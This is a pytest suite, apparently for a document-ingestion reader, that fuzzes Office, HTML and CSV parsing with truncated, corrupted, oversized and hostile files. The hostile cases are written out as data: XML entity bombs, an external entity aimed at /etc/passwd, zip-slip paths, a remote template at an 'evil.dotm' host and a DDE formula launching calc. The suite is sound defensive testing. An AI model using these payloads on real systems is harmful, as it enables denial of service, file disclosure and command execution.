"""Damaged, hostile and absurd Office, HTML and table files: each ends in text or in a problem with its reason, none in
a crash, none later than the limit allows. The files are made by rule, so that a failure can be made again."""

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
import openpyxl
import pytest
import xlwt

from ingest.readers import apart
from ingest.readers.registry import read

LIMIT = 25.0  # seconds, here
Case = tuple[str, bytes, str]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture(autouse=True)
def limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "PAGE_SECONDS", LIMIT)
    monkeypatch.setattr(apart, "FILE_SECONDS", 2 * LIMIT)


def make_docx() -> bytes:
    made = docx.Document()
    for number in range(12):
        made.add_paragraph(f"第{number}段，各校要认真落实。", style="List Number" if number % 3 else "Heading 1")
    table = made.add_table(3, 3)
    table.cell(0, 0).merge(table.cell(1, 1)).text = "合并"
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def make_xlsx() -> bytes:
    book = openpyxl.Workbook()
    for row in range(20):
        book.worksheets[0].append([f"学校{row}", row, "校长"])
    book.worksheets[0].merge_cells("A2:A4")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def make_xls() -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("名册")
    for row in range(40):
        for column in range(4):
            sheet.write(row, column, f"{row}行{column}列")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def make_page() -> bytes:
    lines = "".join(f"<div class='a'><p>第{number}段，各校要<b>认真</b>落实。</p></div>" for number in range(30))
    return (
        f"<html><head><title>通知</title></head><body><table><tr><td>{lines}</td></tr></table></body></html>".encode()
    )


def make_csv() -> bytes:
    return "\n".join(f'张{number},"局长,{number}",第{number}小学' for number in range(50)).encode("gb18030")


MADE: dict[str, Callable[[], bytes]] = {
    "docx": make_docx,
    "xlsx": make_xlsx,
    "xls": make_xls,
    "html": make_page,
    "csv": make_csv,
}


def truncated() -> Iterator[Case]:
    for suffix, make in MADE.items():
        whole = make()
        for number in range(12):
            yield f"{suffix} cut {number}", whole[: random.Random(number).randrange(8, len(whole))], f"a.{suffix}"


def spoiled() -> Iterator[Case]:
    for suffix, make in MADE.items():
        whole = make()
        for number in range(12):
            chance = random.Random(100 + number)
            raw = bytearray(whole)
            for _ in range(1 + number * 4):
                raw[chance.randrange(8, len(raw))] = chance.randrange(256)
            yield f"{suffix} spoiled {number}", bytes(raw), f"a.{suffix}"


def replaced(whole: bytes, parts: dict[str, bytes]) -> bytes:
    """A package with other bytes in some of its parts, or with parts more."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return buffer.getvalue()


def word_of(body: str, before: str = "") -> bytes:
    xml = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return replaced(make_docx(), {"word/document.xml": xml.encode()})


def sheet_of(rows: str, after: str = "", before: str = "") -> bytes:
    xml = f'<?xml version="1.0"?>{before}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData>{after}</worksheet>'
    return replaced(make_xlsx(), {"xl/worksheets/sheet1.xml": xml.encode()})


def cell_at(place: str, text: str = "字") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "哈哈哈哈">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>'
TEXT = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
MERGED = '<mergeCells><mergeCell ref="{}"/></mergeCells>'
LIST = '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="{}"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>'
CELL = "<w:tc><w:tcPr><w:gridSpan w:val='{}'/></w:tcPr><w:p><w:r><w:t>格</w:t></w:r></w:p></w:tc>"


def nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + TEXT.format("底") + "</w:tc></w:tr></w:tbl>" * depth


def hostile() -> Iterator[Case]:
    yield "billion laughs in word", word_of(TEXT.format("&l11;"), BOMB), "a.docx"
    yield "billion laughs in a sheet", sheet_of(f"<row>{cell_at('A1', '&l11;')}</row>", before=BOMB), "a.xlsx"
    yield "a file of the machine in word", word_of(TEXT.format("前&l11;后"), OUTSIDE), "a.docx"
    yield "a file of the machine in a sheet", sheet_of(f"<row>{cell_at('A1', '&l11;')}</row>", before=OUTSIDE), "a.xlsx"
    yield "laughs in the styles", replaced(make_docx(), {"word/styles.xml": f"{BOMB}<a>&l11;</a>".encode()}), "a.docx"
    yield "zeros in word", replaced(make_docx(), {"word/document.xml": bytes(60_000_000)}), "a.docx"
    yield "a bomb beside the text", replaced(make_docx(), {"word/media/a.bin": bytes(200_000_000)}), "a.docx"
    yield "names that lead out", replaced(make_docx(), {"../../out.txt": b"x", "/tmp/yanzhen-out.txt": b"x"}), "a.docx"
    yield "macros", replaced(make_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(5000)}), "a.docm"
    yield "macros in a sheet", replaced(make_xlsx(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "a.xlsm"
    yield "a template from elsewhere", replaced(make_docx(), {"word/_rels/settings.xml.rels": TEMPLATE}), "a.docx"
    yield "empty parts", replaced(make_docx(), {"word/document.xml": b""}), "a.docx"
    yield "numbers of nonsense", word_of(LIST.format("x", "-1") + LIST.format(10**12, "9" * 40)), "a.docx"
    yield "a wide cell of nonsense", word_of(f"<w:tbl><w:tr>{CELL.format('9' * 30) * 2}</w:tr></w:tbl>" * 2), "a.docx"
    yield "a formula of dde", sheet_of("<row><c r='A1'><f>cmd|'/c calc'!A1</f><v>1</v></c></row>"), "a.xlsx"
    yield "a cell of nonsense", sheet_of(f"<row>{cell_at('ZZZZZZ99999999999')}</row>"), "a.xlsx"
    yield "a row of nonsense", sheet_of(f"<row r='-5'>{cell_at('')}</row>"), "a.xlsx"
    yield "scripts", b"<html><script>" + b"while(1){}" * 1000 + b"</script><p>\xe5\xad\x97</p></html>", "a.html"
    yield "laughs in a page", f"{BOMB}<html><p>&l11;</p></html>".encode(), "a.html"
    yield "attributes without end", b"<html><p " + b"a" * 3_000_000 + b">", "a.html"
    yield "quotes without end", b'"' + "张三,".encode() * 300_000, "a.csv"
    yield "marks alone", b"," * 1_000_000, "a.csv"
    yield "values of zeros", b"\x00," * 1000, "a.csv"


TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.1/evil.dotm" TargetMode="External"/></Relationships>'
)


def absurd() -> Iterator[Case]:
    yield "a million empty paragraphs", word_of("<w:p/>" * 1_000_000), "a.docx"
    yield "tables in tables", word_of(nested_tables(150)), "a.docx"
    yield "tables in tables without end", word_of(nested_tables(50_000)), "a.docx"
    yield "wrappers in wrappers", word_of("<w:sdt><w:sdtContent>" * 3000 + "</w:sdtContent></w:sdt>" * 3000), "a.docx"
    yield "runs in runs", word_of(f"<w:p>{'<w:ins>' * 5000}{'</w:ins>' * 5000}</w:p>"), "a.docx"
    yield "a text of ten million", word_of(TEXT.format("字" * 10_000_000)), "a.docx"
    yield (
        "fifty thousand columns",
        sheet_of(f"<row>{''.join(cell_at(column_of(n) + '1') for n in range(50_000))}</row>"),
        "a.xlsx",
    )
    yield "fifty thousand values", ",".join(f"列{number}" for number in range(50_000)).encode(), "a.csv"
    yield "a merged sheet", sheet_of(f"<row>{cell_at('A1')}</row>", MERGED.format("A1:XFD1048576")), "a.xlsx"
    yield "a merged column", sheet_of(f"<row>{cell_at('A1')}</row>", MERGED.format("A1:A1048576")), "a.xlsx"
    yield "cells far apart", sheet_of(f"<row r='1048576'>{cell_at('XFD1048576')}</row>"), "a.xlsx"
    yield "divs in divs", b"<html>" + b"<div>" * 20_000 + "字".encode(), "a.html"
    yield "divs with links", b"<html>" + b"<div><a href=a>b</a>" * 30_000, "a.html"
    yield "tables without end", b"<html>" + b"<table><tr><td>" * 20_000 + "字".encode(), "a.html"
    yield "lists without end", b"<html>" + b"<ul><li>" * 8_000 + "字".encode(), "a.html"
    yield (
        "spans of nonsense",
        f"<table>{'<tr><td rowspan=99999999 colspan=99999999>字</td><td>字</td></tr>' * 300}".encode(),
        "a.html",
    )
    yield "a page of ten million", b"<html><p>" + "字。".encode() * 2_000_000, "a.html"
    yield "entities", b"<html><p>" + b"&amp;" * 1_000_000, "a.html"


def column_of(number: int) -> str:
    letters = ""
    number += 1
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def check(raw: bytes, name: str) -> None:
    result = read(raw, key="folder/a", name=name)
    assert result.document is not None or result.problems
    for problem in result.problems:
        assert any("\u4e00" <= character <= "\u9fff" for character in problem.reason)
    if result.document is not None:
        assert "root:" not in result.document.text
        assert "哈哈哈哈哈哈哈哈" not in result.document.text
        for block in result.document.blocks:
            assert 0 <= block.span.start <= block.span.end <= len(result.document.text)


DAMAGED = [*truncated(), *spoiled()]
WICKED = [*hostile()]


@pytest.mark.parametrize(("raw", "name"), [case[1:] for case in DAMAGED], ids=[case[0] for case in DAMAGED])
def test_damage_ends_in_text_or_in_a_reason(raw: bytes, name: str) -> None:
    check(raw, name)


@pytest.mark.parametrize(("raw", "name"), [case[1:] for case in WICKED], ids=[case[0] for case in WICKED])
def test_malice_ends_in_text_or_in_a_reason(
    raw: bytes, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    check(raw, name)
    assert not list(tmp_path.iterdir())
    assert not Path("/tmp/yanzhen-out.txt").exists()
    assert not (tmp_path / "../../out.txt").exists()


@pytest.mark.parametrize("case", range(18))
def test_absurdity_ends_in_text_or_in_a_reason(case: int) -> None:
    cases = list(absurd())
    assert len(cases) == 18
    check(*cases[case][1:])
